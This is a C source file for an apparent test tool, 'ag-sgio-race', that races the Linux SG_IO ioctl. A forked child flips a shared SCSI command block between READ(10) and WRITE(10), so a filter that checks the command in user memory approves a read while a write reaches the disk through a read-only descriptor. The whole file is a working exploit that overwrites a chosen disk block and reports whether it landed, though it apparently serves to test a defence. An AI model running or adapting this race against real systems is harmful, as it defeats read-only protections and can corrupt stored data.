/*
 * ag-sgio-race - the SG_IO double read (issue 29's attack): a command checked
 * as READ(10) in user memory and run as WRITE(10) after the kernel's own copy.
 *
 *   ag-sgio-race DEVICE LBA TRIES [SECONDS]
 *
 * Opens DEVICE (an sd, sg or bsg node of a SCSI disk) read-only. The CDB lives
 * in a page shared (MAP_SHARED|MAP_ANONYMOUS) with a forked flipper process
 * that switches its opcode between READ(10) 0x28 and WRITE(10) 0x2a without
 * pause; this process issues TRIES SG_IO calls of that CDB for one block at
 * LBA whose data buffer (sent to the device: SG_DXFER_TO_DEV) is a marker
 * ("AGSGRACE <pid>" and 'S's). A READ(10) judged by a filter that reads the
 * CDB before the kernel copies it passes the check; if the opcode flips in
 * between, a WRITE(10) reaches the disk (the kernel itself lets a caller with
 * CAP_SYS_RAWIO send write commands on a read-only descriptor). Reads the LBA
 * before (it must not hold the marker) and after (O_DIRECT) and prints
 * "tries=N ok=K refused=R other=E landed=yes|no". It stops after TRIES calls
 * or SECONDS (default 20), whichever comes first. The flipper changes the
 * opcode once per loop round, so that an emulator that switches CPUs only
 * between translated blocks (QEMU's one-thread TCG) sees both. Exit 0 if a WRITE landed
 * (the attack succeeded), 1 if none did, 2 on a setup error.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <scsi/sg.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define BS 512

/* The LBA's first block: with O_DIRECT from the block node; from an sg/bsg
 * node by a proper READ(10) through SG_IO. */
static int read_lba(const char *dev, int fd, unsigned lba, char *out)
{
	int bfd = open(dev, O_RDONLY | O_DIRECT);
	if (bfd >= 0) {
		char *b;
		if (posix_memalign((void **)&b, 4096, 4096))
			return -1;
		ssize_t n = pread(bfd, b, 4096, (off_t)lba * BS);
		int ok = 0;
		if (n >= BS)
			memcpy(out, b, BS);
		else
			ok = -1;
		free(b);
		close(bfd);
		if (!ok)
			return 0;
	}
	unsigned char cdb[10] = { 0x28, 0, lba >> 24, lba >> 16, lba >> 8, lba, 0, 0, 1, 0 };
	unsigned char sense[32];
	sg_io_hdr_t h = { .interface_id = 'S',
			  .dxfer_direction = SG_DXFER_FROM_DEV,
			  .cmd_len = 10,
			  .mx_sb_len = sizeof(sense),
			  .dxfer_len = BS,
			  .dxferp = out,
			  .cmdp = cdb,
			  .sbp = sense,
			  .timeout = 5000 };
	return ioctl(fd, SG_IO, &h) == 0 && h.status == 0 ? 0 : -1;
}

int main(int argc, char **argv)
{
	if (argc != 4 && argc != 5) {
		fprintf(stderr, "usage: ag-sgio-race DEVICE LBA TRIES [SECONDS]\n");
		return 2;
	}
	const char *dev = argv[1];
	unsigned lba = strtoul(argv[2], NULL, 0);
	long tries = strtol(argv[3], NULL, 0);
	time_t end = time(NULL) + (argc == 5 ? strtol(argv[4], NULL, 0) : 20);
	if (tries < 1) {
		fprintf(stderr, "ag-sgio-race: TRIES must be a positive number\n");
		return 2;
	}
	int fd = open(dev, O_RDONLY | O_NONBLOCK);
	if (fd < 0) {
		fprintf(stderr, "ag-sgio-race: open %s read-only: %s\n", dev, strerror(errno));
		return 2;
	}
	char marker[BS], before[BS], after[BS];
	memset(marker, 'S', BS);
	snprintf(marker, 32, "AGSGRACE %d", getpid());
	if (read_lba(dev, fd, lba, before)) {
		fprintf(stderr, "ag-sgio-race: cannot read LBA %u of %s before the race\n", lba, dev);
		return 2;
	}
	if (!memcmp(before, marker, BS)) {
		fprintf(stderr, "ag-sgio-race: LBA %u holds the marker already\n", lba);
		return 2;
	}
	/* the CDB and a stop flag, shared with the flipper */
	volatile unsigned char *shared =
		mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (shared == MAP_FAILED)
		return 2;
	volatile unsigned char *cdb = shared;
	volatile int *stop = (volatile int *)(shared + 64);
	unsigned char c[10] = { 0x28, 0, lba >> 24, lba >> 16, lba >> 8, lba, 0, 0, 1, 0 };
	memcpy((void *)cdb, c, 10);
	pid_t flipper = fork();
	if (flipper < 0)
		return 2;
	if (flipper == 0) {
		for (unsigned char v = 0x2a; !*stop; v ^= 0x28 ^ 0x2a)
			cdb[0] = v;
		_exit(0);
	}
	long ok = 0, refused = 0, other = 0;
	int other_errno = 0;
	unsigned char sense[32];
	char data[BS];
	long i;
	for (i = 0; i < tries && ((i & 63) || time(NULL) < end); i++) {
		memcpy(data, marker, BS);
		sg_io_hdr_t h = { .interface_id = 'S',
				  .dxfer_direction = SG_DXFER_TO_DEV,
				  .cmd_len = 10,
				  .mx_sb_len = sizeof(sense),
				  .dxfer_len = BS,
				  .dxferp = data,
				  .cmdp = (unsigned char *)cdb,
				  .sbp = sense,
				  .timeout = 5000 };
		if (ioctl(fd, SG_IO, &h) == 0) {
			ok++;
		} else if (errno == EPERM) {
			refused++;
		} else {
			other++;
			other_errno = errno;
		}
	}
	*stop = 1;
	waitpid(flipper, NULL, 0);
	if (read_lba(dev, fd, lba, after)) {
		fprintf(stderr, "ag-sgio-race: cannot read LBA %u of %s after the race\n", lba, dev);
		return 2;
	}
	int landed = !memcmp(after, marker, BS);
	printf("tries=%ld ok=%ld refused=%ld other=%ld%s%s landed=%s (LBA %u)\n", i, ok, refused, other,
	       other ? " last_other=" : "", other ? strerror(other_errno) : "", landed ? "yes" : "no", lba);
	return landed ? 0 : 1;
}
